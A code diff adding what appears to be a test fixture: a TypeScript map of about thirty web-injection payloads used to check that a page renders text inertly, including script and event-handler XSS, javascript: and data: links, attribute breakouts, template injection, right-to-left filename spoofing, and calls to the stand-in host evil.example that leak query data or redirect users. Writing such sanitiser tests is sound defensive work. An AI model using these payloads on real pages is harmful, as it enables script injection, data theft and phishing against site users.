@@ -1,0 +1,38 @@
+/** Words that would run, load or lead somewhere where a page took them for more than words. Each sets `hit` where it runs. */
+export const HOSTILE: Record<string, string> = {
+  script: '<script>globalThis.hit=1;alert(1)</script>',
+  'script that closes another': '</script><script>globalThis.hit=1</script>',
+  'picture that fails': '<img src=x onerror="globalThis.hit=1;alert(1)">',
+  'picture from elsewhere': '<img src="https://evil.example/seen.png?who=ada">',
+  'drawing that loads': '<svg onload=globalThis.hit=1>',
+  'drawing with a script': '<svg><script>globalThis.hit=1</script></svg>',
+  'drawing that animates a link':
+    '<svg><a><animate attributeName=href values=javascript:hit=1 /><text x=9 y=9>go</text></a></svg>',
+  'link that runs': '<a href="javascript:globalThis.hit=1">your invoice</a>',
+  'link that hides how': '<a href="jav&#x09;ascript:globalThis.hit=1">your invoice</a>',
+  'address that runs': 'javascript:globalThis.hit=1//',
+  'page as an address': 'data:text/html,<script>globalThis.hit=1</script>',
+  'link in markdown': '[your invoice](javascript:globalThis.hit=1)',
+  'outside link in markdown': '[your invoice](https://evil.example/pay)',
+  'picture in markdown': '![map](https://evil.example/p.png?q=secret)',
+  'picture in markdown that runs': '![x](x" onerror="globalThis.hit=1)',
+  'link by itself in markdown': '<https://evil.example/auto> and www.evil.example/bare',
+  'code fence that ends early': '```html\n</code></pre><script>globalThis.hit=1</script>\n```',
+  frame: '<iframe srcdoc="<script>top.hit=1</script>" src="https://evil.example/frame"></iframe>',
+  object: '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">',
+  'form that sends away':
+    '<form action="https://evil.example/f"><button autofocus onfocus=hit=1>Sign in</button></form>',
+  'style from elsewhere': '<style>@import "https://evil.example/s.css";*{display:none}</style>',
+  'style in place': '<p style="background:url(https://evil.example/b.png);position:fixed;inset:0">',
+  'way out of an attribute': '" autofocus onfocus="globalThis.hit=1" x="',
+  'way out of a simple attribute': "' onmouseover='globalThis.hit=1' x='",
+  'page that moves on':
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/m"><base href="https://evil.example/">',
+  'template of a page': '{{constructor.constructor("globalThis.hit=1")()}}',
+  'template of a string': '${globalThis.hit=1} #{globalThis.hit=1} <%= globalThis.hit=1 %>',
+  'text from right to left': 'invoice\u202Egnp.exe\u2066\u2067 paid',
+  'marks nobody sees': '\u200B<scr\u200Dipt>globalThis.hit=1</scr\u200Dipt>\uFEFF',
+  'wide signs': '＜script＞globalThis.hit=1＜/script＞',
+  'title that ends': '</title></textarea></noscript><img src=x onerror=globalThis.hit=1>',
+  'marks mixed up': '<math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.hit=1>',
+};
